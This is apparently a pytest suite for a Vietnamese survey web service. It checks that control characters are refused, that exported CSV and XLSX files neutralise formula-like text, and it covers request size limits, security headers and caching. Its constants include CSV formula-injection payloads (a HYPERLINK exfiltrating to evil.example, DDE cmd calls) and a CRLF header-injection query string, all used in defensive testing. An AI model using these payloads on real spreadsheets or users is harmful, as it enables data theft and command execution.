"""Hostile input, lock-outs and leaks closed, on SQLite and PostgreSQL.

* A NUL (or another control character) in a free-text answer is refused with a message
  and shown again without it, so the form can always be sent; staff fields lose it.
* Every CSV and XLSX file the service writes keeps text as text: an answer, a unit
  name or a group name that looks like a formula is never a formula, and a control
  character cannot break a workbook.  Numbers stay numbers.
* Requests have a size limit, refused (413) from their ``Content-Length`` before the
  body is read.
* Headers: a Content-Security-Policy without script everywhere, ``Secure`` cookies
  behind HTTPS, ``no-store`` on every staff page, download and API answer.
* A number answer too long to be a number is refused, not a crash nor infinity.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
import yaml

import sampling
import survey_service
from survey_service import create_app
from survey_service.core.errors import ServiceError
from survey_service.core.models import AuditEntry, DistributionEvent, Draft, Response, ResponseAnswer, Slot

from .formwalk import Walk, parse

PASSWORD = "mat-khau-dai-du-123"
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
UNIT_NAME = "=cmd|' /C calc'!A0"
DISTRICT_NAME = "-2+3+cmd|' /C calc'!A0"
GROUP_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
WORD_TEXT = "Ý kiến\x0bkhác"  # a vertical tab, as a word processor leaves in copied text
TWO_MB = 2 * 1024 * 1024


def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', html).group(1)


def _tokens(db, group: str, count: int = 1) -> list[str]:
    from survey_service.core.models import QuotaPlace, RespondentGroup

    with db.session() as session:
        return list(session.scalars(
            sa.select(Slot.token).join(QuotaPlace, Slot.place_id == QuotaPlace.id)
            .join(RespondentGroup, QuotaPlace.group_id == RespondentGroup.id)
            .where(RespondentGroup.code == group).order_by(Slot.id).limit(count)))


def _walk(client, token: str, texts: dict[str, str] | None = None, *, send: bool = True):
    """Answer every page with its first options and ``texts`` (by field name); then send."""
    walk = Walk(client, token)
    response = walk.open()
    for _ in range(100):
        assert response.status_code == 200, response.status_code
        html = response.get_data(as_text=True)
        form = parse(html)
        if "send" in form.buttons:
            return walk.post(html, action="send") if send else response
        extra = {k: v for k, v in (texts or {}).items() if k in form.texts}
        posted = walk.post(html, extra=extra)
        assert posted.status_code == 303, (posted.status_code, posted.get_data(as_text=True)[:300])
        response = client.get(posted.headers["Location"])
    raise AssertionError("the form did not end")


def _sign_in(app, name: str):
    client = app.test_client()
    page = client.get("/staff/login").get_data(as_text=True)
    response = client.post("/staff/login", data={"csrf_token": _csrf(page), "name": name,
                                                 "password": PASSWORD})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    return client


@pytest.fixture
def admin(loaded, db):
    """A signed-in admin on the built-in plan."""
    from survey_service.accounts.operations import add_user

    with db.session() as session:
        add_user(session, "quantri", "admin", PASSWORD)
    return _sign_in(loaded, "quantri")


# --------------------------------------------------------------------------- 1. text


def test_a_nul_in_a_free_text_answer_never_blocks_the_form(loaded, db, client):
    """It was saved (303), then every "Send" answered 500 on PostgreSQL."""
    token = _tokens(db, "I.1")[0]
    walk = Walk(client, token)
    response = walk.open()
    while "y1" not in parse(response.get_data(as_text=True)).texts:
        response = client.get(walk.post(response.get_data(as_text=True)).headers["Location"])
    html = response.get_data(as_text=True)
    refused = walk.post(html, extra={"y1": "Ý kiến\x00 khác\r\ndòng hai"})
    assert refused.status_code == 422
    page = refused.get_data(as_text=True)
    assert "ký tự điều khiển" in page
    assert parse(page).texts["y1"] == "Ý kiến khác\r\ndòng hai"  # shown again without the NUL
    assert "\x00" not in page
    again = walk.post(page)  # the respondent presses the button once more
    assert again.status_code == 303
    done = _walk(client, token)
    assert done.status_code == 200
    assert 'data-survey-status="completed"' in done.get_data(as_text=True)
    with db.session() as session:
        stored = session.scalar(sa.select(ResponseAnswer.value).where(ResponseAnswer.question == "y1"))
        assert stored == "Ý kiến khác\r\ndòng hai"
        assert session.scalar(sa.select(Slot.status).where(Slot.token == token)) == "completed"


def test_a_control_character_in_a_paper_form_is_refused_and_nothing_is_written(admin, db):
    with db.session() as session:
        code = session.scalars(sa.select(Slot.code).where(Slot.code.like("13-%")).order_by(Slot.code)).first()
    start = admin.get("/staff/paper").get_data(as_text=True)
    url = admin.post("/staff/paper", data={"csrf_token": _csrf(start), "code": code}).headers["Location"]
    html = admin.get(url).get_data(as_text=True)
    # The sheet comes in the sections of the phone form: answer each up to the one of y1.
    while not any(name.startswith("y1") for name in parse(html).texts):
        form = parse(html)
        html = admin.post(url, data={**form.hidden, **{n: o[0] for n, o in form.radios.items()},
                                     "action": "next"}).get_data(as_text=True)
    form = parse(html)
    data = {**form.hidden, **{n: o[0] for n, o in form.radios.items()}, "action": "save"}
    text_field = next(name for name in form.texts if name.startswith("y1"))
    refused = admin.post(url, data={**data, text_field: WORD_TEXT})
    assert refused.status_code == 422 and "ký tự điều khiển" in refused.get_data(as_text=True)
    with db.session() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(Response)) == 0
    saved = admin.post(url, data={**data, text_field: "Ý kiến khác"})
    assert saved.status_code == 302
    with db.session() as session:
        assert session.scalar(sa.select(ResponseAnswer.value).where(ResponseAnswer.question == "y1")) \
            == "Ý kiến khác"


def test_staff_fields_and_query_parameters_lose_control_characters(loaded, admin, db):
    page = admin.get("/staff/slots?group=I.3%00&unit=so-noi-vu%00")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    code = re.findall(r'name="slot" value="([^"]+)"', html)[0]
    handed = admin.post("/staff/slots/hand-out", data={
        "csrf_token": _csrf(html), "slot": code, "contact": "Bưu điện\x00 Tam\x0b Đường",
        "group": "I.3", "unit": "so-noi-vu"})
    assert handed.status_code == 302
    with db.session() as session:
        detail = session.scalar(sa.select(DistributionEvent.detail).where(
            DistributionEvent.action == "handed_out"))
        assert detail == "Bưu điện Tam Đường"
    # A sign-in with a NUL in the name is refused with a clear 400 by the view (never a
    # crash, never a name with the NUL dropped), and nothing with a NUL is logged.
    anonymous = loaded.test_client()
    login = anonymous.get("/staff/login").get_data(as_text=True)
    failed = anonymous.post("/staff/login", data={"csrf_token": _csrf(login), "name": "ai\x00do",
                                                  "password": "sai-mat-khau-roi"})
    assert failed.status_code == 400
    with db.session() as session:
        names = list(session.scalars(sa.select(AuditEntry.user_name)))
        assert not any("\x00" in name for name in names)
    # No page has a control character in its path.
    assert admin.get("/staff/paper/13-0001-X%00").status_code == 404
    # Query parameters are one line: no line break reaches a header (the file name).
    download = admin.get("/staff/slots/cards.csv?group=I.1%0d%0aX-Evil:%201")
    assert download.status_code == 200 and "X-Evil" not in download.headers
    assert "\n" not in download.headers["Content-Disposition"]


# --------------------------------------------------------------------------- 2. exports


@dataclass
class Poisoned:
    """A plan whose names look like formulas, answers that do too, and the app on it."""

    app: Any
    admin: Any
    cli: Any
    folder: Path


def _poisoned_plan(folder: Path, cli) -> Path:
    """The built-in plan with a department, a district and a group named like formulas,
    and the form CT-01 ending with two number questions without bounds."""
    shutil.copytree(sampling.resolve_plan_path(sampling.DEFAULT_PLAN).parent, folder)
    units = folder / "units.csv"
    rows = list(csv.DictReader(io.StringIO(units.read_text(encoding="utf-8"))))
    for row in rows:
        row["name"] = {"so-noi-vu": UNIT_NAME, "huyen-tam-duong": DISTRICT_NAME}.get(row["code"], row["name"])
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    units.write_text(out.getvalue(), encoding="utf-8")
    form_file = folder / "CT-01.yaml"
    result = cli("forms", "export", "CT-01", "--format", "yaml", "-o", str(form_file))
    assert result.exit_code == 0, result.output
    form = yaml.safe_load(form_file.read_text(encoding="utf-8"))
    form["sections"][-1]["questions"] += [
        {"code": "n1", "kind": "number", "integer": True,
         "label": {"vi": "Số lần tiếp xúc cử tri", "en": "Meetings with voters"}},
        {"code": "n2", "kind": "number", "integer": False,
         "label": {"vi": "Tỷ lệ kiến nghị được trả lời", "en": "Share of answered petitions"}},
    ]
    form_file.write_text(yaml.safe_dump(form, allow_unicode=True, sort_keys=False), encoding="utf-8")
    plan_file = folder / "plan.yaml"
    plan = yaml.safe_load(plan_file.read_text(encoding="utf-8"))
    plan.setdefault("questionnaires", []).append(form_file.name)
    for group in plan["groups"]:
        if group["code"] == "I.3":
            group["name"]["vi"] = GROUP_NAME
    plan_file.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return plan_file


@pytest.fixture
def poisoned(database_url: str, cli, tmp_path: Path):
    result = cli("init", "--plan", str(_poisoned_plan(tmp_path / "plan", cli)))
    assert result.exit_code == 0, result.output
    for name, role in (("quantri", "admin"),):
        result = cli("user", "add", name, "--role", role, "--password-stdin", input=PASSWORD + "\n")
        assert result.exit_code == 0, result.output
    app = create_app({"DATABASE_URL": database_url, "SECRET_KEY": "test-secret",
                      "BASE_URL": "http://survey.test", "TESTING": True})
    app.instance_path = str(tmp_path / "instance")
    db = survey_service.get_db(app)
    client = app.test_client()
    first, second = _tokens(db, "I.1", 2)
    assert _walk(client, first, {"y1": PAYLOAD, "n1": "-5", "n2": "-2,5"}).status_code == 200
    assert _walk(client, second, {"y1": "Bình thường"}).status_code == 200
    # An answer stored before text was checked, with a vertical tab in it.
    with db.session() as session:
        session.execute(sa.update(ResponseAnswer).where(ResponseAnswer.value == "Bình thường")
                        .values(value=WORD_TEXT))
    yield Poisoned(app, _sign_in(app, "quantri"), cli, tmp_path)
    db.dispose()


def _book(data: bytes) -> openpyxl.Workbook:
    assert data[:2] == b"PK"
    return openpyxl.load_workbook(io.BytesIO(data))


def _cells(book: openpyxl.Workbook) -> list[Any]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(book: openpyxl.Workbook, *texts: str) -> None:
    """No cell is a formula, and each of ``texts`` is in a text cell as it was written."""
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, text
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_responses_export_keeps_answers_as_text(poisoned: Poisoned):
    out = poisoned.folder / "responses.xlsx"
    result = poisoned.cli("export", "responses", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output  # a vertical tab made it a traceback
    book = _book(out.read_bytes())
    _assert_no_formula(book, PAYLOAD)
    values = [c.value for c in _cells(book)]
    assert "Ý kiếnkhác" in values  # the character XML cannot hold is left out
    assert "-5" in values and "-2.5" in values  # stored number answers, as stored
    result = poisoned.cli("export", "responses", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout)
    values = {r["question"]: r["value"] for r in rows if r["question"] in ("y1", "n1", "n2")
              and r["value"] != WORD_TEXT}
    assert values == {"y1": "'" + PAYLOAD, "n1": "-5", "n2": "-2.5"}  # numbers stay numbers


def test_index_and_scores_exports_keep_names_as_text_and_numbers_as_numbers(poisoned: Poisoned):
    out = poisoned.folder / "index.xlsx"
    result = poisoned.cli("export", "index", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    book = _book(out.read_bytes())
    _assert_no_formula(book, UNIT_NAME, DISTRICT_NAME)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    for column in ("index_pct", "rank", "total"):
        cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
        assert cells and all(c.data_type == "n" for c in cells), column
    rows = _csv_rows(poisoned.cli("export", "index", "--format", "csv").stdout)
    names = {r["unit"]: r["name"] for r in rows}
    assert names["so-noi-vu"] == "'" + UNIT_NAME and names["huyen-tam-duong"] == "'" + DISTRICT_NAME
    assert all(not r["index_pct"].startswith("'") for r in rows)
    out = poisoned.folder / "scores.xlsx"
    assert poisoned.cli("export", "scores", "--format", "xlsx", "-o", str(out)).exit_code == 0
    book = _book(out.read_bytes())
    assert not [c for c in _cells(book) if c.data_type == "f"]
    assert any(c.data_type == "n" for c in _cells(book))


def test_staff_downloads_keep_names_as_text(poisoned: Poisoned):
    admin = poisoned.admin
    _assert_no_formula(_book(admin.get("/staff/progress.xlsx").data), UNIT_NAME, DISTRICT_NAME,
                       GROUP_NAME)
    _assert_no_formula(_book(admin.get("/staff/report.xlsx").data), UNIT_NAME, DISTRICT_NAME)
    progress = _csv_rows(admin.get("/staff/progress.csv").get_data(as_text=True))
    assert progress and all(not v.startswith(("=", "+", "-", "@")) for r in progress for v in r.values())
    cards = _csv_rows(admin.get("/staff/slots/cards.csv?group=I.3&unit=so-noi-vu").get_data(as_text=True))
    assert len(cards) == 15 and {r["unit_name"] for r in cards} == {"'" + UNIT_NAME}
    archive = zipfile.ZipFile(io.BytesIO(admin.get("/staff/slots/cards.zip?group=I.3&unit=so-noi-vu").data))
    index = _csv_rows(archive.read("slots.csv").decode("utf-8"))
    assert {r["unit_name"] for r in index} == {"'" + UNIT_NAME}
    result = poisoned.cli("slots", "export", "--group", "II.1", "--unit", "huyen-tam-duong",
                          "--format", "csv")
    assert result.exit_code == 0, result.output
    assert {r["unit_name"] for r in _csv_rows(result.stdout)} == {"'" + DISTRICT_NAME}


# --------------------------------------------------------------------------- 11. numbers


def test_numbers_too_long_are_refused_not_a_crash(poisoned: Poisoned):
    db = survey_service.get_db(poisoned.app)
    client = poisoned.app.test_client()
    token = _tokens(db, "I.1", 3)[2]
    walk = Walk(client, token)
    response = walk.open()
    while "n1" not in parse(response.get_data(as_text=True)).texts:
        response = client.get(walk.post(response.get_data(as_text=True)).headers["Location"])
    html = response.get_data(as_text=True)
    refused = walk.post(html, extra={"n1": "9" * 5000, "n2": "1" * 400 + ".25"})
    assert refused.status_code == 422  # was 500 (5,000 digits) and "inf" (400 digits)
    page = refused.get_data(as_text=True)
    assert page.count("Số quá dài: tối đa 15 chữ số.") == 2
    accepted = walk.post(page, extra={"n1": "123456789012345", "n2": "0,125"})
    assert accepted.status_code == 303
    with db.session() as session:
        draft = session.scalars(sa.select(Draft).join(Slot, Slot.id == Draft.slot_id)
                                .where(Slot.token == token)).one()
        assert draft.answers["n1"] == 123456789012345 and draft.answers["n2"] == 0.125


# --------------------------------------------------------------------------- 5. size


class _Body(io.RawIOBase):
    """A request body of ``size`` bytes that counts what is read of it."""

    def __init__(self, size: int):
        self.size, self.position, self.read_bytes = size, 0, 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:  # the test client measures the body
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        self.position = {0: 0, 1: self.position, 2: self.size}[whence] + offset
        return self.position

    def tell(self) -> int:
        return self.position

    def readinto(self, buffer) -> int:
        n = max(0, min(len(buffer), self.size - self.position))
        buffer[:n] = b"a" * n
        self.position += n
        self.read_bytes += n
        return n


def _big_post(client, url: str, size: int = TWO_MB, **kwargs):
    body = _Body(size)
    response = client.post(url, input_stream=body, content_length=size,
                           content_type=kwargs.pop("content_type", "application/x-www-form-urlencoded"),
                           **kwargs)
    return response, body


def test_a_large_post_to_sign_in_or_a_link_is_refused_before_it_is_read(loaded, db, client):
    for url in ("/staff/login", f"/s/{_tokens(db, 'I.1')[0]}", "/staff/slots/hand-out"):
        response, body = _big_post(client, url)
        assert response.status_code == 413, url
        assert body.read_bytes == 0, url
        text = response.get_data(as_text=True)
        assert "quá lớn" in text and "<script" not in text
    english, _ = _big_post(client, f"/s/{_tokens(db, 'I.1')[0]}?lang=en")
    assert "too large" in english.get_data(as_text=True)
    api, body = _big_post(client, "/api/v1/progress")
    assert api.status_code == 413 and body.read_bytes == 0
    assert api.get_json()["error"]["vi"] and "too large" in api.get_json()["error"]["en"]
    with db.session() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(Draft)) == 0


def test_a_form_under_the_limit_still_works_and_one_just_over_does_not(loaded, db, client):
    token = _tokens(db, "I.1")[0]
    html = client.get(f"/s/{token}").get_data(as_text=True)
    form = parse(html)
    small = client.post(f"/s/{token}", data={**form.hidden, "action": "next"})
    assert small.status_code == 303
    padding = "x" * (loaded.config["MAX_FORM_BYTES"] + 1)
    over = client.post(f"/s/{token}", data={**form.hidden, "action": "next", "pad": padding})
    assert over.status_code == 413


def test_uploads_take_more_but_only_from_signed_in_staff(loaded, db, admin):
    from survey_service.accounts.operations import add_user

    with db.session() as session:
        add_user(session, "phantich", "analyst", PASSWORD)
    analyst = _sign_in(loaded, "phantich")
    anonymous = loaded.test_client()
    response, _ = _big_post(anonymous, "/staff/appraisal", content_type="multipart/form-data; boundary=x")
    assert response.status_code == 413
    assert loaded.config["MAX_UPLOAD_BYTES"] == 20 * 1024 * 1024
    upload = loaded.config["MAX_UPLOAD_BYTES"] + loaded.config["MAX_FORM_BYTES"]  # the file and its form
    response, body = _big_post(analyst, "/staff/appraisal", size=upload + 1,
                               content_type="multipart/form-data; boundary=x")
    assert response.status_code == 413 and body.read_bytes == 0
    # 2 MB from signed-in staff: over the limit of other requests, read and refused as a workbook.
    page = analyst.get("/staff/appraisal").get_data(as_text=True)
    body = b"".join([
        b'--x\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n', _csrf(page).encode(),
        b'\r\n--x\r\nContent-Disposition: form-data; name="unit"\r\n\r\nso-noi-vu',
        b'\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="so-noi-vu.xlsx"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n", b"PK\x03\x04" + b"\x00" * TWO_MB,
        b"\r\n--x--\r\n"])
    response = analyst.post("/staff/appraisal", input_stream=io.BytesIO(body), content_length=len(body),
                            content_type="multipart/form-data; boundary=x")
    assert response.status_code not in (413, 500), response.status_code
    # An API upload is read only once the view has checked its key.
    evidence = "/api/v1/appraisal/units/so-noi-vu/rows/LV1.TD1/evidence"
    response, body = _big_post(anonymous, evidence, content_type="multipart/form-data; boundary=x")
    assert response.status_code == 401 and body.read_bytes == 0
    response, body = _big_post(anonymous, evidence, size=upload + 1,
                               content_type="multipart/form-data; boundary=x")
    assert response.status_code == 413 and body.read_bytes == 0


def test_the_upload_limit_is_configurable(monkeypatch, tmp_path: Path):
    from survey_service.core import config

    monkeypatch.setenv("SURVEY_SECRET_KEY", "k")
    monkeypatch.setenv("SURVEY_MAX_UPLOAD_MB", "5")
    assert config.from_environment(tmp_path)["MAX_UPLOAD_BYTES"] == 5 * 1024 * 1024
    for wrong in ("năm", "0", "-1"):
        monkeypatch.setenv("SURVEY_MAX_UPLOAD_MB", wrong)
        with pytest.raises(ServiceError) as info:
            config.from_environment(tmp_path)
        assert "SURVEY_MAX_UPLOAD_MB" in info.value.message("vi") and "megabytes" in str(info.value)


# --------------------------------------------------------------------------- 9. headers


def _style_sources(html: str) -> set[str]:
    return {"'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
            for s in re.findall(r"<style[^>]*>(.*?)</style>", html, re.DOTALL)}


def _policy(response) -> dict[str, list[str]]:
    header = response.headers["Content-Security-Policy"]
    return {d.split()[0]: d.split()[1:] for d in (p.strip() for p in header.split(";")) if d}


def test_every_answer_has_a_content_security_policy_without_script(loaded, db, admin):
    from survey_service.accounts.operations import new_api_key

    with db.session() as session:
        key = new_api_key(session, "quantri")
    anonymous = loaded.test_client()
    answers = {
        "respondent page": anonymous.get(f"/s/{_tokens(db, 'I.1')[0]}"),
        "unknown link": anonymous.get("/s/" + "A" * 22),
        "front page": anonymous.get("/"),
        "sign-in": anonymous.get("/staff/login"),
        "progress (inline SVG)": admin.get("/staff/progress"),
        "slots": admin.get("/staff/slots?group=I.3"),
        "cards CSV": admin.get("/staff/slots/cards.csv?group=I.1"),
        "API": anonymous.get("/api/v1/plan", headers={"Authorization": f"Bearer {key}"}),
    }
    for what, response in answers.items():
        assert response.status_code in (200, 404), what
        policy = _policy(response)
        assert policy["default-src"] == ["'none'"], what
        assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"], what
        assert policy["form-action"] == ["'self'"] and policy["img-src"] == ["'self'", "data:"], what
        assert "script-src" not in policy, what
        assert not any("unsafe" in s for sources in policy.values() for s in sources), what
        if response.mimetype == "text/html":
            html = response.get_data(as_text=True)
            assert "<script" not in html and " style=" not in html, what
            # The page's one style sheet is allowed by its hash, nothing else is.
            assert set(policy["style-src"]) == _style_sources(html) != set(), what


def test_session_cookies_are_secure_behind_https(loaded_url: str, tmp_path: Path):
    settings = {"DATABASE_URL": loaded_url, "SECRET_KEY": "test-secret", "TESTING": True}
    for base, secure in (("https://khaosat.example.vn", True), ("http://survey.test", False)):
        app = create_app({**settings, "BASE_URL": base})
        try:
            assert app.config["SESSION_COOKIE_SECURE"] is secure
            assert app.config["REMEMBER_COOKIE_SECURE"] is secure
            cookie = app.test_client().get("/staff/login").headers.get("Set-Cookie", "")
            assert cookie and ("; Secure" in cookie) is secure, cookie
        finally:
            survey_service.get_db(app).dispose()


def test_staff_pages_downloads_and_api_answers_are_never_stored(loaded, db, admin):
    from survey_service.accounts.operations import new_api_key

    with db.session() as session:
        key = new_api_key(session, "quantri")
    anonymous = loaded.test_client()
    bearer = {"Authorization": f"Bearer {key}"}
    answers = {
        "sign-in": anonymous.get("/staff/login"),
        "staff home": admin.get("/staff/"),
        "slots": admin.get("/staff/slots?group=I.1"),
        "cards CSV (live links)": admin.get("/staff/slots/cards.csv?group=I.1"),
        "progress": admin.get("/staff/progress"),
        "progress XLSX": admin.get("/staff/progress.xlsx"),
        "appraisal template": admin.get("/staff/appraisal/so-noi-vu.xlsx"),
        "API": anonymous.get("/api/v1/progress", headers=bearer),
        "API refusal": anonymous.get("/api/v1/progress"),
        "API document": anonymous.get("/api/v1/openapi.json"),
        "respondent page": anonymous.get(f"/s/{_tokens(db, 'I.1')[0]}"),
    }
    for what, response in answers.items():
        assert response.status_code in (200, 401), (what, response.status_code)
        assert response.headers.get("Cache-Control") == "no-store", what
